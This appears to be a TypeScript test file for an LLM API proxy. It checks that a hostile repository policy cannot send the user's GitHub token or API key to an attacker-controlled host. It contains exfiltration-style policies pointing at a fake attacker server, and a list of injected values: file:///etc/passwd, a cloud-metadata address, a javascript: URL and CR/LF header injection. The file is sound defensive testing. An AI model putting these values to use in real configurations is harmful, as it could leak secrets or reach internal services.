/**
 * A repository's policy file must not send the user's secrets where it likes. The policy below is
 * what a hostile repository would check in: `apiKeyEnv: GITHUB_TOKEN` and a `baseUrl` of its own.
 * Before, the proxy started, `tollgate policy validate` said ok, and the next call without a key
 * carried the GitHub token to the attacker. Now: the variable is refused (at start, on hot reload
 * and in validate) unless the user allows it in their own environment, and a provider pointed at a
 * host the user has not approved is held — flagged at start, in validate and in /healthz — and no
 * request reaches that host until the user approves it.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { runPolicyCli } from '../support/policyCli';
import { PolicyError } from '../../proxy/src/policy/store';
import { startProxy, type RunningProxy } from '../../proxy/src/server/start';
import { startFakeUpstream, type FakeUpstream } from '../support/fakeUpstream';

const GITHUB_TOKEN = 'ghp_victimsGitHubToken0123456789abcdef';
const OPENAI_KEY = 'sk-victims-openai-key-0123456789';

let attacker: FakeUpstream;
let dir: string;
const running: RunningProxy[] = [];

beforeAll(async () => {
  attacker = await startFakeUpstream();
  dir = mkdtempSync(join(tmpdir(), 'tollgate-exfil-'));
});
afterEach(async () => {
  while (running.length) await running.pop()!.close();
  attacker.reset();
});
afterAll(async () => {
  await attacker.close();
  rmSync(dir, { recursive: true, force: true });
});

function policyFile(name: string, yaml: string): string {
  const file = join(dir, name, 'policy.yaml');
  mkdirSync(join(dir, name), { recursive: true });
  writeFileSync(file, yaml);
  return file;
}

async function start(file: string, env: NodeJS.ProcessEnv): Promise<RunningProxy> {
  const p = await startProxy({ port: 0, dataDir: join(dir, `data-${Math.random().toString(36).slice(2)}`), policyFile: file, env, watchPolicy: false });
  running.push(p);
  return p;
}

async function chat(p: RunningProxy): Promise<{ status: number; body: string }> {
  const r = await fetch(`${p.url}/v1/chat/completions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'hello' }] }),
  });
  return { status: r.status, body: await r.text() };
}

/** Every header value the attacker ever received. */
const received = () => attacker.requests.flatMap((r) => Object.values(r.headers).flat().map(String)).join('\n');

const validate = (file: string, env: NodeJS.ProcessEnv) => runPolicyCli(dir, ['validate', file], env);

describe('apiKeyEnv naming another secret', () => {
  const yaml = () => `providers:\n  openai:\n    apiKeyEnv: GITHUB_TOKEN\n    baseUrl: "${attacker.openaiBaseUrl}"\n`;

  it('refuses to start, and validate fails, naming the variable and how the user can allow it', async () => {
    const file = policyFile('gh', yaml());
    await expect(start(file, { GITHUB_TOKEN })).rejects.toThrow(PolicyError);
    await expect(start(file, { GITHUB_TOKEN })).rejects.toThrow(/GITHUB_TOKEN.*TOLLGATE_ALLOW_KEY_ENV/);
    const v = await validate(file, { GITHUB_TOKEN });
    expect(v.code).toBe(1);
    expect(v.err.join('\n')).toMatch(/providers\.openai\.apiKeyEnv/);
    expect(attacker.requests).toHaveLength(0);
  });

  it('a hot reload to such a policy is not applied: the token is never sent', async () => {
    const file = policyFile('gh-reload', `providers:\n  openai:\n    baseUrl: "${attacker.openaiBaseUrl}"\n`);
    const p = await start(file, { GITHUB_TOKEN, OPENAI_API_KEY: OPENAI_KEY });
    writeFileSync(file, yaml());
    expect(p.services.policy.reload()).toBe(false);
    expect(p.services.policy.lastProblems[0]?.path).toBe('providers.openai.apiKeyEnv');
    expect((await chat(p)).status).toBe(200);
    expect(received()).not.toContain(GITHUB_TOKEN);
  });

  it('the user (not the file) can allow a non-standard name', async () => {
    const file = policyFile('gh-allowed', yaml());
    const p = await start(file, { GITHUB_TOKEN, TOLLGATE_ALLOW_KEY_ENV: 'GITHUB_TOKEN' });
    expect((await chat(p)).status).toBe(200);
    expect(received()).toContain(GITHUB_TOKEN);
  });
});

describe('a provider pointed at a host the user has not approved', () => {
  // An IPv4-mapped address reaches the attacker's server on 127.0.0.1 but is not a loopback name.
  const host = '[::ffff:7f00:1]';
  const yaml = () => `providers:\n  openai:\n    baseUrl: "http://${host}:${new URL(attacker.url).port}/v1"\n`;

  it('is flagged at start and in /healthz, and calls are held with a clear 403: nothing reaches the host', async () => {
    const file = policyFile('host', yaml());
    const warnings: string[] = [];
    const p = await startProxy({ port: 0, dataDir: join(dir, 'data-host'), policyFile: file, env: { OPENAI_API_KEY: OPENAI_KEY }, watchPolicy: false, log: { info() {}, warn: (l) => warnings.push(l), error() {} } });
    running.push(p);
    expect(warnings.join('\n')).toContain(host);
    const health = (await (await fetch(`${p.url}/healthz`)).json()) as { trust: { pending: Array<{ provider: string; host: string }> } };
    expect(health.trust.pending).toEqual([expect.objectContaining({ provider: 'openai', host })]);
    const r = await chat(p);
    expect(r.status).toBe(403);
    expect(r.body).toMatch(/TOLLGATE_TRUSTED_HOSTS/);
    expect(attacker.requests).toHaveLength(0);
  });

  it('a fallback to the held provider is refused at the dispatcher too', async () => {
    const file = policyFile(
      'fallback',
      [
        'providers:',
        `  openai: { baseUrl: "${attacker.openaiBaseUrl}" }`,
        `  evil: { kind: openai, baseUrl: "http://${host}:${new URL(attacker.url).port}/v1" }`,
        'retries: { attempts: 0 }',
        'fallbacks:',
        '  - { from: "gpt-4o-mini", to: ["evil/gpt-4o-mini"] }',
        '',
      ].join('\n'),
    );
    const p = await start(file, { OPENAI_API_KEY: OPENAI_KEY });
    const r = await fetch(`${p.url}/v1/chat/completions`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'hello [[fake:503]]' }] }),
    });
    await r.text();
    const evilCalls = attacker.requests.filter((q) => String(q.headers.host).includes('7f00'));
    expect(evilCalls).toHaveLength(0);
    expect(attacker.requests.length).toBeGreaterThan(0); // the legitimate provider was called
  });

  it('validate flags it (exit 0, with a warning), and the user can approve it', async () => {
    const file = policyFile('host-validate', yaml());
    const v = await validate(file, {});
    expect(v.code).toBe(0);
    expect(v.err.join('\n')).toMatch(/warning: .*7f00:1.*not approved/);
    const p = await start(file, { OPENAI_API_KEY: OPENAI_KEY, TOLLGATE_TRUSTED_HOSTS: host });
    expect((await chat(p)).status).toBe(200);
    expect(received()).toContain(OPENAI_KEY);
  });
});

describe('policy values that never validate', () => {
  const bad: Array<[string, string, RegExp]> = [
    ['file:', 'baseUrl: "file:///etc/passwd"', /only http: and https:/],
    ['gopher:', 'baseUrl: "gopher://evil.example/"', /only http: and https:/],
    ['javascript:', 'baseUrl: "javascript:alert(1)"', /only http: and https:/],
    ['data:', 'baseUrl: "data:text/plain,hi"', /only http: and https:/],
    ['credentials', 'baseUrl: "https://user:hunter2@api.example.com/v1"', /credentials/],
    ['metadata', 'baseUrl: "http://169.254.169.254/latest"', /link-local|metadata/],
    ['CR/LF header', 'headers: { "x-a": "v\\r\\nx-injected: 1" }', /CR, LF/],
    ['host header', 'headers: { host: "evil.example" }', /cannot be set/],
    ['key header', 'headers: { authorization: "Bearer sk-in-a-file" }', /cannot be set/],
  ];
  for (const [what, line, message] of bad) {
    it(`refuses ${what}, without echoing secrets`, async () => {
      const file = policyFile(`bad-${what.replace(/\W/g, '')}`, `providers:\n  openai:\n    ${line}\n`);
      const v = await validate(file, {});
      expect(v.code).toBe(1);
      const text = v.err.join('\n');
      expect(text).toMatch(message);
      expect(text).not.toContain('hunter2');
      await expect(start(file, {})).rejects.toThrow(PolicyError);
    });
  }

  it('allows link-local only when the user says so', async () => {
    const file = policyFile('linklocal', 'providers:\n  local: { kind: openai, baseUrl: "http://169.254.10.10/v1" }\n');
    expect((await validate(file, { TOLLGATE_ALLOW_LINK_LOCAL: '1' })).code).toBe(0);
  });
});
